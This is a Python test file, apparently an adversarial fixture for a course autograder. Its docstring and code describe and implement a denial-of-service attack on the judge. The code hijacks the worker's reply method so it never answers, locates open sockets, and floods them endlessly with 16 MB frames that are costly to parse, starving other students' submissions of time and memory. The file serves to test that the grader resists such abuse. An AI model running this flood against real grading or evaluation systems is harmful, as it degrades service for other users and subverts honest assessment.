"""Threat: cost the judge, not itself. The honest answer is loaded, but the worker never answers;
a thread sends the judge, without end, 16 MB frames of `[],[],...` (cheap to send again, 5.5
million values to parse). The judge parsed every frame, whatever its id, holding the GIL about
2 s and 470 MB each: with three such learners an honest exercise 4 in the same class ran out of
time, and the grader grew to 2.3 GB. Deserves: 0 ("crashed": a frame no honest worker sends),
and no time or memory of anyone else's.
"""

import asyncio
import base64
import os
import select
import stat
import struct
import sys
import threading

exec(base64.b64decode("__HONEST__").decode())

_worker = sys.modules.get("docchat_lab.grading.worker")


async def _never(self, message):
    await asyncio.Future()


def _flood(fd: int, frame: bytes) -> None:
    while True:
        view = memoryview(frame)
        while view:
            try:
                view = view[os.write(fd, view) :]
            except BlockingIOError:
                select.select([], [fd], [], 1)
            except OSError:
                return


if _worker is not None:
    _worker.Worker.reply_async = _never  # only the flood writes: no frame is cut by another
    _body = b'{"id":"x","v":[' + b"[]," * 5_500_000 + b"[]]}"
    _frame = struct.pack("!I", len(_body)) + _body
    _sockets = []
    for _fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(_fd).st_mode):
                _sockets.append(_fd)
        except OSError:
            pass
    for _fd in _sockets[:1]:
        threading.Thread(target=_flood, args=(_fd, _frame), daemon=True).start()
